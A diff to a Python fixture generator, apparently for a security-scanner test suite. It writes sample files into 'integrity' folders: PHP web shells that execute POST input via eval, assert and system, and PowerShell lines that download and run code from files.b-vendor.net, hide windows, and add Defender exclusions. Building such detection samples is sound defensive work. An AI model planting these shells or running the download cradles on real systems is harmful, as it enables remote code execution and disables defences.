@@ -260,6 +260,21 @@ write(CHANGES + "helpers.deb", deb(FILES, scripts={"postinst": SHELL + "adduser 
 write(CHANGES + "removal.deb", deb(FILES, scripts={"postrm": SHELL + "sed -i /twin/d /etc/hosts\nrm -f /etc/cron.d/twin\n"}))
 
 
+PAGE, POST = "integrity/webshell/", "$_PO" + "ST"
+write(PAGE + "direct.php", "<?php @ev" + "al(" + POST + "['x']); ?>\n")
+write(PAGE + "encoded.php", "<?php ass" + "ert(base64_decode(" + POST + "['x']));\n")
+write(PAGE + "called.php", "<?php " + POST + "['f'](" + POST + "['x']);\n")
+write(PAGE + "by-variable.php", "<?php\n$command = " + POST + "['c'];\necho '<pre>';\nsys" + "tem($command);\n")
+
+POWER, IEX = "integrity/powershell-behaviour/", "ie" + "x"
+write(POWER + "fetched.ps1", IEX + " ((New-Object Net.WebClient).Download" + "String('http://files.b-vendor.net/a'))\n")
+write(POWER + "encoded.bat", "@echo off\r\npower" + "shell -NoProfile -enc " +
+      base64.b64encode("Write-Output 'a harmless text that says nothing'".encode("utf-16-le")).decode() + "\r\n")
+write(POWER + "unseen.ps1", "Start-Process power" + "shell -WindowStyle Hidden -ArgumentList '-File', 'a.ps1'\n"
+      "(New-Object Net.WebClient).Download" + "File('http://files.b-vendor.net/a.exe', \"$env:TEMP\\a.exe\")\n")
+write(POWER + "guard.ps1", "Add-MpPref" + "erence -ExclusionPath $env:TEMP\n")
+
+
 # ---- C-05: the newest entry of a changelog
 
 
